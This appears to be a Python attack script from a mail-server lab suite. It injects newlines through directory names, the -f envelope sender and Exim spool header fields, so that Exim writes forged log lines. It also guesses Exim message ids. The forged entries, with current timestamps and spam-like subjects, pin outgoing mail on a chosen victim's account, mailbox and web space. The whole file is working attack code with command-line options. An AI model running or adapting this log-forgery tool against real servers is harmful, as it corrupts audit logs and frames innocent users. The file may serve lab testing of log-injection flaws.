#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 the osm authors
#
# send_forge.py ACCOUNT VICTIM MAILBOX N --way name|args|from: the account makes Exim log N
# whole lines that blame VICTIM, its MAILBOX and its web space. The ways:
#   name  a directory name with newlines, each line standing between two of them
#   args  the same with a false " N args: ..." inside the name, so that every line, also the
#         first and the last one, is one that Exim could have written
#   from  an envelope sender with newlines (-f), on the arrival line of a queued message
#   spool N queued messages whose sender goes on as if it were further lines of Exim's spool
#         header, naming MAILBOX as the login; then false arrivals with these messages' ids,
#         each of which is guessed from the time and the process (a few lines a message)
# Lines are fresh: the time is now, the message ids are such as Exim makes.
import argparse
import os
import subprocess
import time

import labmail

DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
SENDER_MAX = 256 - len('\nz"@evil.example')
REAL_ENDING = " 3 args: /usr/sbin/sendmail -t -i"


def base62(number, width):
    text = ""
    for _ in range(width):
        number, rest = divmod(number, 62)
        text = DIGITS[rest] + text
    return text


class Forger:
    def __init__(self, victim, mailbox, claim):
        self.victim, self.mailbox, self.claim, self.made = victim, mailbox, claim, 0
        self.subject = ' T="pay now"'
        self.ids = []

    def line(self):
        """One false line; arrivals by script and by login take turns."""
        self.made += 1
        now = int(time.time())
        mid = f"{base62(now, 6)}-{base62(7000 + self.made, 6)}-{base62(self.made % 3000, 2)}"
        if self.ids:
            mid = self.ids.pop()
        stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(now))
        kind = self.claim if self.claim != "mixed" else ("local", "mailbox")[self.made % 2]
        if kind == "local":
            return (f"{stamp} {mid} <= {self.victim}@x.example U={self.victim} P=local"
                    f" S=9{self.made % 90 + 10}{self.subject} for a{self.made}@ok1.example")
        return (f"{stamp} {mid} <= {self.mailbox} H=(pc) [203.0.113.9]:4{self.made % 9000 + 1000} P=esmtpa"
                f" A=dovecot_login:{self.mailbox} S=900{self.subject} for a{self.made}@ok1.example")

    def stamp(self):
        return time.strftime("%Y-%m-%d %H:%M:%S", time.localtime())

    def name_parts(self, lines):
        return [f"p{k}\n{self.line()}\nq" for k in range(lines)]

    def args_parts(self, lines):
        """Each false arrival is followed by a false start in the victim's web space."""
        parts, opening = [], "nl"
        for _ in range((lines + 1) // 2):
            parts += [f"{opening}{REAL_ENDING}\n{self.line()}\n{self.stamp()} cwd=", "home",
                      self.victim]
            opening = "public_html"
        return parts + [opening]


def start_in(parts, send):
    """Walk down one component at a time (the whole path may be long), start, walk back."""
    top = os.open(".", os.O_RDONLY)
    for part in parts:
        os.makedirs(part, exist_ok=True)
        os.chdir(part)
    if send:
        labmail.submit(labmail.letter("x@x.example", "p@ok3.example", "hello", 0), "-odq")
    else:
        subprocess.run(["/usr/sbin/sendmail", "-t", "-i"], stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
    os.fchdir(top)
    os.close(top)


def start_from(forger, lines, number):
    """As many false lines as Exim's limit on an address leaves room for; how many."""
    text, n = '"n\n' + forger.line(), 1
    while n < lines:
        more = text + "\n" + forger.line()
        if len(more) > SENDER_MAX:
            break
        text, n = more, n + 1
    if labmail.submit(labmail.letter("x@x.example", f"p{number}@ok3.example", "hello", number),
                      "-odq", "-f", text + '\nz"@evil.example') != 0:
        raise SystemExit("send_forge.py: Exim refused the envelope sender")
    return n


def start_spool(forger, number):
    """Queue a message whose header file seems to name the victim's login; its possible ids
    (Exim makes them of the second, the process and the 5 ms of its reception)."""
    sender = (f'"x>\n{int(time.time())} 0\n-auth_id {forger.mailbox}\n'
              f'-host_address [203.0.113.9]:40001\nz"@evil.example')
    began = time.time()
    with subprocess.Popen(["/usr/sbin/sendmail", "-odq", "-t", "-i", "-f", sender],
                          stdin=subprocess.PIPE) as program:
        program.communicate(labmail.letter("x@x.example", f"p{number}@ok3.example", "hello",
                                           number).encode())
    ticks = range(int(began * 200) - 1, int(time.time() * 200) + 2)
    return [f"{base62(t // 200, 6)}-{base62(program.pid, 6)}-{base62(t % 200, 2)}" for t in ticks]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("account")
    p.add_argument("victim")
    p.add_argument("mailbox")
    p.add_argument("count", type=int)
    p.add_argument("--way", choices=("name", "args", "from", "spool"), default="name")
    p.add_argument("--claim", choices=("local", "mailbox", "mixed"), default="mixed")
    p.add_argument("--per-start", type=int, default=10, help="false lines a program start")
    p.add_argument("--send", action="store_true", help="really queue a message at each start")
    a = p.parse_args()
    labmail.become(a.account, "forge")
    forger = Forger(a.victim, a.mailbox, a.claim)
    if a.way == "from":
        forger.subject = ""  # a quoted local part can't hold a quote
    left, starts = a.count, 0
    if a.way == "spool":
        for i in range(a.count):
            forger.ids += start_spool(forger, i)
        left, forger.claim = len(forger.ids), "mailbox"
        a.count = left
    while left > 0:
        n = min(left, a.per_start)
        if a.way == "from":
            n = start_from(forger, n, starts)
        else:
            start_in(forger.args_parts(n) if a.way == "args" else forger.name_parts(n), a.send)
        left -= n
        starts += 1
    labmail.told(lines=a.count, starts=starts)


main()
